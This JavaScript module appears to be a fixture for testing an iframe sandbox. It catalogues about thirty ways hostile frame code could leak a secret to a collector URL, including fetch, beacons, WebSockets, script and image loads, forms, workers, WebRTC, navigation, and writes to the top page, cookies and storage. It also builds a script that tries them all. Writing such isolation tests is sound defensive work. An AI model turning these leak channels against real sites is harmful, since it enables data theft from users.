// biome-ignore-all lint/suspicious/noTemplateCurlyInString: bodies of functions, as text.
// What hostile code in the inner frame would try, had it got there. Bodies of functions (secret, url) as in worker.mjs; they run after
// the frame's own script.

/** Noticed by the collector. */
export const network = {
  fetch: 'fetch(url + secret)',
  XMLHttpRequest: "const request = new XMLHttpRequest(); request.open('GET', url + secret); request.send()",
  beacon: 'navigator.sendBeacon(url + secret)',
  WebSocket: "new WebSocket(url.replace('http', 'ws') + secret)",
  EventSource: 'new EventSource(url + secret)',
  'dynamic import': 'import(url + secret)',
  picture: 'new Image().src = url + secret',
  'element made by the document': "document.createElement('img').src = url + secret",
  sound: 'new Audio(url + secret).load()',
  'script element':
    "const s = document.createElement('script'); s.src = url + secret; document.documentElement.append(s)",
  stylesheet:
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url + secret; document.documentElement.append(l)",
  prefetch:
    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url + secret; document.documentElement.append(l)",
  'background picture': 'document.documentElement.style.backgroundImage = `url("${url}${secret}")`',
  markup: 'document.documentElement.insertAdjacentHTML("beforeend", `<img src="${url}${secret}">`)',
  'child frame': "const f = document.createElement('iframe'); f.src = url + secret; document.documentElement.append(f)",
  'network of a child frame':
    "const f = document.createElement('iframe'); document.documentElement.append(f); f.contentWindow.fetch(url + secret)",
  form: "const f = document.createElement('form'); f.action = url; f.method = 'get'; f.target = 'leak-form'; const i = document.createElement('input'); i.name = 'd'; i.value = secret; const c = document.createElement('iframe'); c.name = 'leak-form'; const a = document.createElement('input'); a.name = 'attempt'; a.value = 'form'; f.append(i, a); document.documentElement.append(c, f); f.submit()",
  worker: 'new Worker(URL.createObjectURL(new Blob([`fetch("${url}${secret}")`])))',
  'shared worker': 'new SharedWorker(URL.createObjectURL(new Blob([`fetch("${url}${secret}")`])))',
  window: 'open(url + secret)',
};

/** Noticed as a datagram. */
export const datagrams = {
  WebRTC:
    "const c = new RTCPeerConnection({ iceServers: [{ urls: udp }] }); c.createDataChannel('leak'); c.createOffer().then((o) => c.setLocalDescription(o))",
};

/** Each ends the frame or the page it runs in, so each has a page of its own. Noticed by the collector. */
export const navigation = {
  'navigation of the frame': 'location.href = url + secret',
  'navigation by refresh':
    'document.documentElement.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${url}${secret}">`)',
  'navigation of the page': 'top.location.href = url + secret',
};

/** Noticed by the page that embeds the frame. */
export const page = {
  'document of the page': 'top.document.title = secret',
  'global of the page': 'top.leaked = secret',
  'fragment of the address of the page': 'top.location.hash = secret',
  'local storage': "localStorage.setItem('leak', secret)",
  cookie: 'document.cookie = `leak=${secret}; path=/`',
  'number of frames': "for (let i = 0; i < 7; i++) document.documentElement.append(document.createElement('iframe'))",
};

/** Scripts that run `attempts` one after the other. @param {Record<string, string>} attempts */
export function hostileScript(attempts, { url, udp }) {
  const parts = Object.entries(attempts).map(
    ([name, body]) => `(async (secret, url, udp) => {${body}})(
      'secret-${'5e'.repeat(32)}', ${JSON.stringify(`${url}/leak?attempt=${encodeURIComponent(name)}&d=`)}, ${JSON.stringify(udp)}).catch(() => {});`,
  );
  // The page is told that they ran; that much the frame can always say.
  return `{${parts.join('\n')}\ntop.postMessage('ran', '*');}`;
}
